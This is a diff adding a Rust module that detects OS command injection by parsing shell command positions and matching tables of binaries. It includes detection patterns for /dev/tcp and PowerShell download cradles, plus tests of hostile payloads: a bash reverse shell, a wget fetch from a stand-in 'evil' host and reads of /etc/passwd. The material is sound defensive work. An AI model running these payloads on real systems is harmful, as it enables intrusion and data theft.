@@ -1,0 +1,500 @@
+//! OS command injection: shell command positions and the words in them.
+//!
+//! A command position is the start of the value, or what follows a shell
+//! separator (`;`, `|`, `||`, `&`, `&&`, newline), a substitution (`$(`,
+//! a backtick not used as Markdown), a subshell `(` or a brace expansion `{`.
+//! The word there is normalised the way a shell would read it (quotes and
+//! backslashes dropped, `$IFS`/`${IFS}` as blanks, a path prefix dropped,
+//! `?`/`*` globs matched) and looked up in a table of binaries. Unambiguous
+//! binaries (`whoami`, `wget`, `bash`) count on their own after a separator;
+//! words that are also English (`cat`, `id`, `echo`) need a shell-looking
+//! argument (`-l`, `/etc/passwd`, `$HOME`) or nothing after them.
+
+use std::collections::HashMap;
+use std::sync::LazyLock;
+
+use super::sqli::Found;
+
+/// Binaries that are not ordinary words.
+const STRONG: &[&str] = &[
+    "whoami",
+    "uname",
+    "ifconfig",
+    "ipconfig",
+    "wget",
+    "curl",
+    "nc",
+    "ncat",
+    "netcat",
+    "bash",
+    "sh",
+    "zsh",
+    "ksh",
+    "csh",
+    "tcsh",
+    "dash",
+    "python",
+    "python2",
+    "python3",
+    "perl",
+    "ruby",
+    "php",
+    "powershell",
+    "pwsh",
+    "cmd",
+    "telnet",
+    "nslookup",
+    "busybox",
+    "mkfifo",
+    "chmod",
+    "chown",
+    "useradd",
+    "usermod",
+    "systeminfo",
+    "certutil",
+    "bitsadmin",
+    "wmic",
+    "xterm",
+    "socat",
+    "base64",
+    "crontab",
+    "tftp",
+    "netstat",
+    "passwd",
+    "sudo",
+    "nmap",
+    "lsof",
+    "ifup",
+    "iptables",
+    "getent",
+    "hostname",
+    "xxd",
+    "rundll32",
+    "regsvr32",
+    "mshta",
+    "cscript",
+    "wscript",
+    "tasklist",
+    "taskkill",
+    "reg",
+    "schtasks",
+    "sc",
+    "icacls",
+    "cacls",
+    "msiexec",
+    "bcdedit",
+    "vssadmin",
+    "dig",
+    "host",
+    "traceroute",
+    "tracert",
+    "arp",
+    "route",
+    "pgrep",
+    "pkill",
+    "killall",
+    "chattr",
+    "setfacl",
+    "node",
+    "lua",
+    "gcc",
+    "cc",
+    "awk",
+    "gawk",
+    "sed",
+    "grep",
+    "egrep",
+    "fgrep",
+];
+
+/// Binaries that are also ordinary words: they need a shell-looking argument.
+const WORDS: &[&str] = &[
+    "wc",
+    "ls",
+    "dir",
+    "pwd",
+    "printenv",
+    "env",
+    "uptime",
+    "ps",
+    "id",
+    "cat",
+    "tac",
+    "nl",
+    "head",
+    "tail",
+    "more",
+    "less",
+    "od",
+    "strings",
+    "rm",
+    "rmdir",
+    "cp",
+    "mv",
+    "touch",
+    "echo",
+    "ping",
+    "sleep",
+    "kill",
+    "find",
+    "type",
+    "ver",
+    "net",
+    "ssh",
+    "scp",
+    "ftp",
+    "tar",
+    "zip",
+    "unzip",
+    "gzip",
+    "ln",
+    "mount",
+    "reboot",
+    "shutdown",
+    "halt",
+    "last",
+    "who",
+    "history",
+    "file",
+    "stat",
+    "sort",
+    "uniq",
+    "dd",
+    "vi",
+    "vim",
+    "nano",
+    "diff",
+    "whereis",
+    "which",
+    "locate",
+    "export",
+    "set",
+    "alias",
+    "eval",
+    "exec",
+    "source",
+    "nohup",
+    "timeout",
+    "xargs",
+    "tee",
+    "cut",
+    "tr",
+    "rev",
+    "date",
+    "time",
+    "su",
+    "openssl",
+    "git",
+    "svn",
+    "java",
+    "jrunscript",
+    "nice",
+    "screen",
+    "tmux",
+    "expect",
+    "at",
+    "systemctl",
+    "service",
+    "apt",
+    "apt-get",
+    "yum",
+    "dnf",
+    "pip",
+    "npm",
+    "docker",
+    "kubectl",
+    "sqlite3",
+    "mysql",
+    "psql",
+];
+
+/// `Some(true)` for an unambiguous binary, `Some(false)` for one that is also a word.
+fn binary(word: &str) -> Option<bool> {
+    static TABLE: LazyLock<HashMap<&'static str, bool>> = LazyLock::new(|| {
+        let strong = STRONG.iter().map(|w| (*w, true));
+        WORDS.iter().map(|w| (*w, false)).chain(strong).collect()
+    });
+    TABLE.get(word).copied()
+}
+
+/// Matches a glob word (`c?t`, `/???/c*t` after the path is dropped) against the table.
+fn glob_binary(word: &str) -> Option<bool> {
+    let literal = word.bytes().filter(|c| *c != b'?' && *c != b'*').count();
+    if literal < 2 {
+        return None;
+    }
+    // A globbed binary name is shell syntax: strong evidence either way.
+    STRONG
+        .iter()
+        .chain(WORDS)
+        .any(|b| glob(word.as_bytes(), b.as_bytes()))
+        .then_some(true)
+}
+
+/// Iterative glob match (`?` one char, `*` any run), linear in practice.
+fn glob(p: &[u8], s: &[u8]) -> bool {
+    let (mut pi, mut si) = (0, 0);
+    let (mut star, mut mark) = (None, 0);
+    while si < s.len() {
+        match p.get(pi) {
+            Some(b'?') => {
+                pi += 1;
+                si += 1;
+            }
+            Some(b'*') => {
+                star = Some(pi);
+                mark = si;
+                pi += 1;
+            }
+            Some(c) if *c == s[si] => {
+                pi += 1;
+                si += 1;
+            }
+            _ => match star {
+                Some(st) => {
+                    pi = st + 1;
+                    mark += 1;
+                    si = mark;
+                }
+                None => return false,
+            },
+        }
+    }
+    while p.get(pi) == Some(&b'*') {
+        pi += 1;
+    }
+    pi == p.len()
+}
+
+/// The shell reading of the word at the start of `s`: the normalised word
+/// and what follows it.
+fn word(s: &str) -> (String, &str) {
+    let mut w = String::new();
+    let b = s.as_bytes();
+    let mut i = 0;
+    while i < b.len() && w.len() < 64 {
+        let c = b[i];
+        match c {
+            b'\'' | b'"' | b'\\' => i += 1,
+            b'$' if matches!(b.get(i + 1), Some(b'@' | b'*')) => i += 2,
+            b'$' if s
+                .get(i..)
+                .is_some_and(|r| r.starts_with("${IFS}") || r.starts_with("$IFS")) =>
+            {
+                break
+            }
+            b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b'`' | b')' | b'(' | b','
+            | b'<' | b'>' | b'}' | b'{' => break,
+            _ => {
+                w.push(c.to_ascii_lowercase() as char);
+                i += 1;
+            }
+        }
+    }
+    let rest = s.get(i..).unwrap_or("");
+    (w, rest)
+}
+
+/// What follows a command word looks like shell: an option, a path, a
+/// variable, a redirection, another command, or nothing.
+fn shellish(rest: &str) -> bool {
+    let mut r = rest;
+    for blank in ["${IFS}", "$IFS", " ", "\t", "+", ","] {
+        if let Some(t) = r.strip_prefix(blank) {
+            r = t;
+        }
+    }
+    let r = r.trim_start();
+    r.is_empty()
+        || r.starts_with([
+            '-', '/', '~', '$', '>', '<', '|', ';', '&', '`', '*', '%', '\\', '.', '\'', '"', ')',
+            '}',
+        ])
+        || r.get(..3)
+            .is_some_and(|p| p.eq_ignore_ascii_case("c:\\") || p.eq_ignore_ascii_case("c:/"))
+        || r.get(..4).is_some_and(|p| p.eq_ignore_ascii_case("http"))
+}
+
+fn best(a: Option<Found>, b: Option<Found>) -> Option<Found> {
+    match (a, b) {
+        (Some(x), Some(y)) => Some(if y.1 > x.1 { y } else { x }),
+        (x, None) => x,
+        (None, y) => y,
+    }
+}
+
+/// Judges the command at the start of `s`; `after_sep` says a separator or
+/// substitution came before it.
+fn command_at(s: &str, after_sep: bool) -> Option<Found> {
+    let mut t = s;
+    loop {
+        let before = t.len();
+        t = t.trim_start_matches([' ', '\t', '\n', '\r', '{', '(']);
+        for blank in ["${IFS}", "$IFS"] {
+            if let Some(r) = t.strip_prefix(blank) {
+                t = r;
+            }
+        }
+        if t.len() == before {
+            break;
+        }
+    }
+    let (w, rest) = word(t);
+    if w.is_empty() {
+        return None;
+    }
+    let absolute = w.starts_with('/') || w.starts_with("c:\\") || w.starts_with("c:/");
+    let base = w.rsplit(['/', '\\']).next().unwrap_or(&w);
+    let base = base.strip_suffix(".exe").unwrap_or(base);
+    let known = if base.contains(['?', '*']) {
+        glob_binary(base)
+    } else {
+        binary(base)
+    };
+    let strong = known?;
+    let path_ok = !absolute
+        || [
+            "/bin/",
+            "/usr/bin/",
+            "/sbin/",
+            "/usr/sbin/",
+            "/usr/local/bin/",
+            "c:\\windows\\",
+            "c:/windows/",
+        ]
+        .iter()
+        .any(|p| w.starts_with(p))
+        || w.starts_with("/???/")
+        || w.starts_with("/?");
+    if !path_ok {
+        return None;
+    }
+    let args = shellish(rest);
+    match (after_sep, strong, absolute) {
+        (true, true, _) => Some(("rce.command", 0.9)),
+        (true, false, _) if args => Some(("rce.command", 0.85)),
+        (false, _, true) if args => Some(("rce.binary_path", 0.75)),
+        (false, true, false) if args && !rest.trim().is_empty() => Some(("rce.command_start", 0.6)),
+        _ => None,
+    }
+}
+
+/// Judges a decoded value.
+pub fn detect(s: &str) -> Option<Found> {
+    let b = s.as_bytes();
+    let mut found = None;
+    let lower_has =
+        |needle: &str| s.len() >= needle.len() && s.to_ascii_lowercase().contains(needle);
+    if memchr::memchr(b'$', b).is_some() && (s.contains("${IFS}") || s.contains("$IFS")) {
+        found = Some(("rce.ifs", 0.8));
+    }
+    if memchr::memchr(b'/', b).is_some() && (s.contains("/dev/tcp/") || s.contains("/dev/udp/")) {
+        found = best(found, Some(("rce.dev_tcp", 0.9)));
+    }
+    found = best(found, command_at(s, false));
+    let mut i = 0;
+    let mut n = 0;
+    while i < b.len() && n < 64 {
+        let c = b[i];
+        let sep = match c {
+            b';' | b'\n' => Some(1),
+            b'|' | b'&' => Some(if b.get(i + 1) == Some(&c) { 2 } else { 1 }),
+            b'$' if b.get(i + 1) == Some(&b'(') => Some(2),
+            // A backtick starts a substitution unless it opens Markdown code after a blank.
+            b'`' if i == 0 || !b[i - 1].is_ascii_whitespace() => Some(1),
+            b'{' if b.get(i + 1).is_some_and(|n| n.is_ascii_alphabetic()) => Some(1),
+            _ => None,
+        };
+        if let Some(len) = sep {
+            n += 1;
+            let rest = s.get(i + len..).unwrap_or("");
+            found = best(found, command_at(rest, true));
+            if found.is_some_and(|f| f.1 >= 0.9) {
+                break;
+            }
+            i += len;
+        } else {
+            i += 1;
+        }
+    }
+    if found.is_none() && memchr::memchr(b'(', b).is_some() {
+        for (needle, rule) in [
+            ("invoke-expression", "rce.powershell"),
+            ("iex(", "rce.powershell"),
+            ("new-object net.webclient", "rce.powershell"),
+            ("downloadstring(", "rce.powershell"),
+        ] {
+            if lower_has(needle) {
+                found = Some((rule, 0.85));
+            }
+        }
+    }
+    if found.is_none()
+        && lower_has("powershell")
+        && (lower_has(" -enc") || lower_has(" -e ") || lower_has(" -c"))
+    {
+        found = Some(("rce.powershell", 0.85));
+    }
+    found
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn attacks() {
+        for a in [
+            "127.0.0.1;cat /etc/passwd",
+            "x | id",
+            "x && whoami",
+            "$(whoami)",
+            "`id`",
+            "a;c'a't /etc/passwd",
+            "a;/bin/c?t /etc/passwd",
+            "a;cat${IFS}/etc/passwd",
+            "{cat,/etc/passwd}",
+            "x||ping -c 10 127.0.0.1",
+            "| type c:\\boot.ini",
+            "& dir c:\\",
+            "/bin/bash -c 'id'",
+            "x;wget http://evil/x.sh",
+            "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
+            "x\nls -la",
+            "powershell -enc SQBFAFgA",
+        ] {
+            assert!(detect(a).is_some_and(|f| f.1 >= 0.5), "missed {a:?}");
+        }
+    }
+
+    #[test]
+    fn hard_negatives() {
+        for b in [
+            "Tom & Jerry",
+            "R&D; sales",
+            "I love dogs; cat owners too",
+            "cats | dogs",
+            "run `ls -la` to list files",
+            "id",
+            "echo chamber",
+            "find a store near me",
+            "type here",
+            "Salt & pepper; sleep well",
+            "SKU-104",
+            "/api/v1/users/130",
+            "more info | less noise",
+        ] {
+            assert_eq!(detect(b), None, "flagged {b:?}");
+        }
+    }
+
+    #[test]
+    fn glob_is_linear_enough() {
+        assert!(glob(b"c?t", b"cat"));
+        assert!(glob(b"*", b"anything"));
+        assert!(!glob(b"c*z", b"cat"));
+        let long = "*a".repeat(2000);
+        let _ = glob(long.as_bytes(), b"whoami");
+        let _ = detect(&";".repeat(100_000));
+    }
+}
